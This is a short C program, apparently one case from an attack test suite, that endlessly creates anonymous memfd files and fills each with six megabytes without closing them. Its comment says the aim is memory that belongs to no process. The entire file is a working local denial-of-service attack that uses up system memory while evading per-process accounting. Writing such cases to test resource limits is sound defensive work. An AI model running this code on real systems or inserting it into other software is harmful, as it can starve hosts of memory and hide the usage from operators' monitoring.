/* Memory behind anonymous files that nobody maps: it is in no process, yet it is used. */
#include "attack.h"
int main(void) {
    static char block[1 << 20];
    memset(block, 1, sizeof block);
    for (int n = 0;; n++) {
        int fd = memfd_create("nobody", n % 2 ? MFD_CLOEXEC : 0);
        for (int part = 0; part < 6 && fd >= 0; part++)
            if (write(fd, block, sizeof block) < 0) break;
    }
}
